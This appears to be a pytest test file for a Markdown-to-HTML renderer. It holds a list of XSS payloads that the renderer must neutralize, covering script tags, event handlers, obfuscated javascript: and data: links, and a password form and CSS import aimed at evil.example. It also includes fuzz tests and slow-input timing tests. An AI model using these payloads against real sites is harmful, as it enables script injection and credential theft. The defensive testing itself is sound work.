"""Words of people become safe HTML, in time."""

import re
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from projects.results.rendering import render
from projects.results.rules import LONG_TEXT

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<div hx-get='/v1/me' hx-trigger='load'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<style>@import 'https://evil.example';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/path)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://tracker.example/pixel.png)",
    "![x](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}} {% raw %}",
]
TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)([^>]*)>")
SAFE_TAGS = {
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "ul",
}
SAFE_ATTRIBUTES = re.compile(
    r'^(?: (?:href="(?:https?:[^"<>]*)"|rel="nofollow noopener noreferrer ugc"|start="\d+"))*\s*/?$'
)


def assert_harmless(html: str) -> None:
    for _closing, tag, attributes in TAG.findall(html):
        assert tag in SAFE_TAGS, html
        assert SAFE_ATTRIBUTES.match(attributes), html
    assert html.count("<") == len(TAG.findall(html)), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_words(attack: str) -> None:
    assert_harmless(render(attack))
    assert_harmless(render(f"- **{attack}**\n\n{attack}"))


@given(st.text(alphabet="<>[]()!&#;:*_`\"'\\/ \nabhjrtx=-1", max_size=120))
@settings(max_examples=400, deadline=None)
def test_nothing_that_can_be_typed_becomes_more_than_plain_tags(text: str) -> None:
    assert_harmless(render(text))


def test_good_words_stay_good() -> None:
    html = render("# We met\n\n- **Ada**\n- [film](https://example.org/?a=1&b=2)\n\n> a quote")
    assert "<h3>We met</h3>" in html
    assert "<strong>Ada</strong>" in html
    assert 'href="https://example.org/?a=1&amp;b=2"' in html
    assert 'rel="nofollow noopener noreferrer ugc"' in html
    assert "<blockquote>" in html


SLOW = {
    "brackets": "[" * LONG_TEXT,
    "links": "[a](" * (LONG_TEXT // 4),
    "images": "![a](" * (LONG_TEXT // 5),
    "stars": "*a " * (LONG_TEXT // 3),
    "stars and lines": "*_" * (LONG_TEXT // 2),
    "open then close": "[ (" * (LONG_TEXT // 4) + "]" * (LONG_TEXT // 4),
    "emphasis": "a**b" * (LONG_TEXT // 4),
    "ticks": " ".join("`" * length for length in range(1, 125)),
    "quotes": "> - " * (LONG_TEXT // 4),
    "lists": "\n".join(" " * depth + "- a" for depth in range(120)),
    "references": "[a]: /x\n" * (LONG_TEXT // 8),
    "less than": "<" * LONG_TEXT,
    "entities": "&" * LONG_TEXT,
    "unclosed": "[a](<" * (LONG_TEXT // 5),
    "parentheses": "[a](" + "(" * (LONG_TEXT - 4),
}


@pytest.mark.parametrize("name", SLOW)
def test_the_slowest_words_render_within_200_ms(name: str) -> None:
    text = SLOW[name]
    assert len(text) <= LONG_TEXT
    best = float("inf")
    for _ in range(3):
        started = process_time()
        render(text)
        best = min(best, process_time() - started)
    assert best < 0.2
